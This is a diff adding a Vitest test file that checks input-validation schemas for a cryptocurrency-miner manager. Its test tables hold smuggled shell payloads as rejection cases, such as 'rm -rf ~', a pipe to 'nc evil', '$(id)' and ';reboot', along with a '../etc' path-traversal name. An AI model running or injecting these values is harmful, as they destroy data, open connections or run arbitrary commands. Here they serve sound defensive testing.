@@ -1,0 +1,107 @@
+// Hostile and invalid start requests must be rejected by minerStartSchema, naming the offending field,
+// because these values end up in miner argument arrays and config files.
+import { describe, it, expect } from 'vitest';
+import { fieldErrors, minerStartSchema, splitCliArgs, throttleSchema } from './schemas';
+
+const valid = {
+  minerType: 'xmrig' as const,
+  config: {
+    pool: 'stratum+tcp://pool.example.com:3333',
+    wallet: '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx',
+  },
+};
+
+function errorsFor(config: Record<string, unknown>, minerType: 'xmrig' | 'ttminer' | 'simulated' = 'xmrig') {
+  const result = minerStartSchema.safeParse({ ...valid, minerType, config: { ...valid.config, ...config } });
+  expect(result.success).toBe(false);
+  return result.success ? [] : fieldErrors(result.error);
+}
+
+describe('minerStartSchema', () => {
+  it('accepts a sane xmrig request and fills defaults', () => {
+    const result = minerStartSchema.parse(valid);
+    expect(result.config).toMatchObject({
+      threads: 0,
+      cpuMaxThreadsHint: 100,
+      donateLevel: 1,
+      password: 'x',
+    });
+  });
+
+  it.each([
+    ['a semicolon', '--cpu-no-yield;rm -rf ~'],
+    ['a pipe', '--print-time=5 | nc evil 1'],
+    ['command substitution', '--user-agent=$(id)'],
+    ['backticks', '--user-agent=`id`'],
+    ['a redirect', '--print-time=5 >/tmp/x'],
+    ['an ampersand', '--print-time=5 &'],
+  ])('rejects cliArgs with %s', (_label, cliArgs) => {
+    const errors = errorsFor({ cliArgs });
+    expect(errors[0]?.path).toBe('config.cliArgs');
+    expect(errors[0]?.message).toMatch(/shell metacharacter/);
+  });
+
+  it.each([
+    '--log-file=/etc/x',
+    '--http-port=1234',
+    '--http-port',
+    '-b',
+    '--config=/tmp/c.json',
+    '--api-bind=0.0.0.0:1',
+  ])('rejects the app-managed flag %s', (cliArgs) => {
+    const errors = errorsFor({ cliArgs });
+    expect(errors[0]?.path).toBe('config.cliArgs');
+    expect(errors[0]?.message).toMatch(/managed by the app/);
+  });
+
+  it.each([
+    ['threads 1025', { threads: 1025 }, 'config.threads'],
+    ['threads -1', { threads: -1 }, 'config.threads'],
+    ['hint 0', { cpuMaxThreadsHint: 0 }, 'config.cpuMaxThreadsHint'],
+    ['hint 101', { cpuMaxThreadsHint: 101 }, 'config.cpuMaxThreadsHint'],
+    ['priority 6', { cpuPriority: 6 }, 'config.cpuPriority'],
+    ['donate 0', { donateLevel: 0 }, 'config.donateLevel'],
+    ['api port 80', { apiPort: 80 }, 'config.apiPort'],
+    ['pool without port', { pool: 'stratum+tcp://pool.example.com' }, 'config.pool'],
+    ['pool with spaces', { pool: 'pool.example.com :3333' }, 'config.pool'],
+    ['pool with a shell payload', { pool: 'pool.example.com:3333;reboot' }, 'config.pool'],
+    ['pool with port 0', { pool: 'pool.example.com:0' }, 'config.pool'],
+    ['wallet with ;', { wallet: '4Adx;rm -rf /' }, 'config.wallet'],
+    ['empty wallet', { wallet: '' }, 'config.wallet'],
+    ['password with a space', { password: 'x y' }, 'config.password'],
+    ['password with a newline', { password: 'x\ny' }, 'config.password'],
+    ['algo with a shell payload', { algo: 'rx/0;id' }, 'config.algo'],
+    ['devices as text', { devices: 'all' }, 'config.devices'],
+  ])('rejects %s and names %s', (_label, config, path) => {
+    const errors = errorsFor(config);
+    expect(errors.map((e) => e.path)).toContain(path);
+    expect(errors.find((e) => e.path === path)?.message.length).toBeGreaterThan(5);
+  });
+
+  it('rejects a pool without port for ttminer too, but not for the simulated miner', () => {
+    expect(errorsFor({ pool: 'pool.example.com' }, 'ttminer').map((e) => e.path)).toContain('config.pool');
+    expect(minerStartSchema.safeParse({ minerType: 'simulated', config: {} }).success).toBe(true);
+  });
+
+  it('rejects an unknown miner type and a hostile name', () => {
+    expect(minerStartSchema.safeParse({ ...valid, minerType: 'bash' }).success).toBe(false);
+    const r = minerStartSchema.safeParse({ ...valid, name: '../etc' });
+    expect(r.success).toBe(false);
+    if (!r.success) expect(fieldErrors(r.error)[0]?.path).toBe('name');
+  });
+});
+
+describe('splitCliArgs', () => {
+  it('splits on whitespace without any quoting', () => {
+    expect(splitCliArgs('  --cpu-no-yield   --print-time=5 ')).toEqual(['--cpu-no-yield', '--print-time=5']);
+    expect(splitCliArgs(undefined)).toEqual([]);
+  });
+});
+
+describe('throttleSchema', () => {
+  it('needs at least one field and bounds each', () => {
+    expect(throttleSchema.safeParse({}).success).toBe(false);
+    expect(throttleSchema.safeParse({ cpuMaxThreadsHint: 101 }).success).toBe(false);
+    expect(throttleSchema.parse({ cpuMaxThreadsHint: 50 })).toEqual({ cpuMaxThreadsHint: 50 });
+  });
+});
